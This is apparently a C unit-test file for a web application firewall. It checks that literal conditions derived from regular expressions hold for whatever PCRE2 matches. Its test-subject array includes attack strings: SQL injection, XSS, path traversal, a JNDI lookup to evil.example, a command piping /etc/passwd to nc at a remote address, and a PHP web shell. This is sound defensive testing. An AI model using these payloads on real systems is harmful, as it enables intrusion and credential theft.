/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Whatever PCRE2 finds must meet the conditions: over strings made from the expression itself,
 * changed a little, and over values that have nothing to do with it.
 */
#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include <waf_cond.h>

#include "waf_test.h"

static const char *const subjects[] = {
	"",
	"1 UNION ALL SELECT password FROM users--",
	"' or 1=1 -- -",
	"\" onmouseover=alert(1) x=\"",
	"<script>alert(document.cookie)</script>",
	"../../../../etc/passwd\0",
	"${jndi:ldap://evil.example/a}",
	"; cat /etc/passwd | nc 10.0.0.1 4444",
	"$(echo b'u's\"y\"box)",
	"<?php system($_GET['c']); ?>",
	"{{7*7}}<%= 7*7 %>#{7*7}",
	"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
	"abcABC123_- \t\r\n\x0b\x0c\x85\xa0\xff",
	"a\nb\nc",
	"aaaaabbbbbccccc",
	"x='y';z=\"w\"`v`",
};

struct trial {
	pcre2_code *code;
	pcre2_match_data *data;
	pcre2_match_context *context;
	const struct waf_re *re;
	struct waf_need need[2]; /* few literals, many */
	struct weir_arena a;
	uint64_t random;
	uint32_t matches;
	const char *what;
};

/* ---- strings that may match ---- */

static uint8_t member(struct trial *t, const struct waf_set *set)
{
	uint8_t c = (uint8_t)next_random(&t->random);

	if (next_random(&t->random) % 4)
		c = (uint8_t)(' ' + c % 95);
	for (unsigned int i = 0; i < 256; i++, c++) {
		if (waf_set_has(set, c))
			return c;
	}
	return c;
}

static void make(struct trial *t, const struct waf_re *re, struct weir_buf *out)
{
	uint32_t n = 0;
	uint8_t c;

	if (out->len > 4000)
		return;
	switch (re->kind) {
	case WAF_RE_EMPTY:
	case WAF_RE_BEGIN:
	case WAF_RE_END:
		return;
	case WAF_RE_SET:
		c = member(t, &re->set);
		weir_buf_add(out, &c, 1);
		return;
	case WAF_RE_ANY: /* mostly a repetition of what came last */
		n = next_random(&t->random) % 4;
		n = n < out->len ? n : (uint32_t)out->len;
		for (uint32_t i = 0; i < n; i++) {
			c = (uint8_t)out->ptr[out->len - n];
			weir_buf_add(out, &c, 1);
		}
		return;
	case WAF_RE_CAT:
		for (const struct waf_re *child = re->first; child; child = child->next)
			make(t, child, out);
		return;
	case WAF_RE_ALT:
		for (const struct waf_re *child = re->first; child; child = child->next)
			n++;
		n = next_random(&t->random) % n;
		for (const struct waf_re *child = re->first; child; child = child->next) {
			if (n-- == 0)
				make(t, child, out);
		}
		return;
	case WAF_RE_REPEAT:
		n = next_random(&t->random) % 3;
		n = re->max - re->min < n ? re->max - re->min : n;
		for (uint32_t i = 0; i < re->min + n; i++)
			make(t, re->first, out);
	}
}

static void spoil(struct trial *t, struct weir_buf *b)
{
	uint32_t at;

	if (!b->len)
		return;
	at = next_random(&t->random) % (uint32_t)b->len;
	switch (next_random(&t->random) % 4) {
	case 0:
		b->ptr[at] ^= 0x20;
		break;
	case 1:
		b->ptr[at] = (char)next_random(&t->random);
		break;
	case 2:
		memmove(b->ptr + at, b->ptr + at + 1, b->len - at - 1);
		b->len--;
		break;
	default:
		for (size_t i = 0; i < b->len; i++)
			b->ptr[i] = (char)weir_lower((uint8_t)b->ptr[i]);
	}
}

/* ---- judging ---- */

static void judge(struct trial *t, struct weir_bytes subject)
{
	int rc = pcre2_match(t->code, subject.ptr ? subject.ptr : (PCRE2_SPTR) "", subject.len, 0,
			     0, t->data, t->context);

	if (rc < 0)
		return;
	t->matches++;
	for (size_t i = 0; i < 2; i++) {
		if (waf_need_is_met(&t->need[i], subject))
			continue;
		ck_abort_msg("/%s/ matches '%.*s' but not its conditions", t->what,
			     (int)subject.len, subject.ptr ? (const char *)subject.ptr : "");
	}
}

static bool begin(struct trial *t, struct weir_bytes pattern)
{
	PCRE2_SIZE where;
	int error;

	*t = (struct trial){.random = 0x9e3779b97f4a7c15ULL, .what = (const char *)pattern.ptr};
	t->code = pcre2_compile(pattern.ptr, pattern.len, PCRE2_DOTALL | PCRE2_DOLLAR_ENDONLY,
				&error, &where, NULL);
	if (!t->code)
		return false;
	t->data = pcre2_match_data_create_from_pattern(t->code, NULL);
	t->context = pcre2_match_context_create(NULL);
	pcre2_set_match_limit(t->context, 100000);
	weir_arena_init(&t->a, &weir_arena_malloc, 1 << 24);
	t->re = waf_re_parse(pattern, false, &t->a);
	ck_assert_int_eq(waf_need_of_regex(pattern, false, 24, &t->a, &t->need[0]), 0);
	ck_assert_int_eq(waf_need_of_regex(pattern, false, 600, &t->a, &t->need[1]), 0);
	return true;
}

static void end(struct trial *t)
{
	pcre2_code_free(t->code);
	pcre2_match_data_free(t->data);
	pcre2_match_context_free(t->context);
	if (t->a.source)
		weir_arena_reset(&t->a);
}

static void made_subjects(struct trial *t, unsigned int n)
{
	struct weir_buf text = {0};

	for (unsigned int i = 0; i < n && t->re; i++) {
		text.len = 0;
		if (i % 5 == 4)
			weir_buf_str(&text, subjects[i % WEIR_ARRAY_LEN(subjects)]);
		make(t, t->re, &text);
		for (unsigned int k = i % 4; k; k--)
			spoil(t, &text);
		judge(t, weir_bytes_of(text.ptr, text.len));
	}
	weir_buf_fini(&text);
}

/* True when something matched. */
static bool try(struct weir_bytes pattern, unsigned int made)
{
	struct trial t;
	bool matched;

	if (begin(&t, pattern)) {
		for (size_t i = 0; i < WEIR_ARRAY_LEN(subjects); i++)
			judge(&t, weir_bytes_str(subjects[i]));
		for (uint32_t i = 0; i < waf_benign_n; i++)
			judge(&t, weir_bytes_str(waf_benign_values[i]));
		made_subjects(&t, made);
	}
	matched = t.matches > 0;
	end(&t);
	return matched;
}

START_TEST(what_matches_meets_the_conditions)
{
	unsigned int matched = 0;

	for (size_t i = 0; i < waf_n_patterns; i++)
		matched += try(weir_bytes_str(waf_patterns[i]), 2000);
	ck_assert_uint_ge(matched * 10, waf_n_patterns * 9);
}
END_TEST

static void try_rule(void *context, const struct crs_rule *rule)
{
	char *text = strndup((const char *)rule->pattern.ptr, rule->pattern.len);

	*(unsigned int *)context += try(weir_bytes_str(text), 400);
	free(text);
}

START_TEST(what_rules_of_crs_match_meets_their_conditions)
{
	unsigned int matched = 0, n = crs_rules(getenv("WEIR_CRS4"), try_rule, &matched);

	ck_assert_uint_ge(matched * 10, n * 9);
}
END_TEST

/* Pieces of syntax in any order: what PCRE2 takes and matches must meet the conditions. */
START_TEST(pieces_of_syntax_in_any_order)
{
	static const char *const pieces[] = {
		"a",     "b",     "ab",      "k",      "(",
		")",     "(?:",   "|",       "*",      "+",
		"?",     "{2}",   "{1,3}",   "{0}",    "[ab]",
		"[^a]",  "[a-c",  "]",       "\\d",    "\\w",
		"\\s",   "\\b",   "^",       "$",      ".",
		"(?i)",  "(?i:",  "(?x)",    " ",      "#",
		"\n",    "\\Q",   "\\E",     "\\1",    "(?=",
		"(?!",   "(?<=",  "(?>",     "\\K",    "\\R",
		"(?|",   "(?^)",  "(?-i)",   "(?xx)",  "[[:alpha:]]",
		"\\x61", "\\141", "++",      "*?",     "-",
		"A",     "\\10",  "(?<n>",   "\\k<n>", "(?#a)",
		"(?n)",  "{,2}",  "\\x{62}", "[\\Qa",  "\\E-c]",
		"=",     "==",    "^",       "$",      "\\A",
		"\\z",   "\\Z",   "(?m)",    "(?m:",   "(?-m)",
		"\\x1e", "\\x1f", "(?:^|",   "(?:$|",  "[\\x00-\\x1f]",
	};
	uint64_t random = 88172645463325252ULL;
	unsigned int matched = 0;

	for (unsigned int i = 0; i < 30000; i++) {
		struct weir_buf text = {0};

		for (unsigned int n = 1 + next_random(&random) % 9; n; n--)
			weir_buf_str(&text, pieces[next_random(&random) % WEIR_ARRAY_LEN(pieces)]);
		matched += try(weir_bytes_of(text.ptr, text.len), 8);
		weir_buf_fini(&text);
	}
	ck_assert_uint_gt(matched, 2500);
}
END_TEST

Suite *need_sound_suite(void)
{
	return WEIR_SUITE("waf need sound", what_matches_meets_the_conditions,
			  what_rules_of_crs_match_meets_their_conditions,
			  pieces_of_syntax_in_any_order);
}
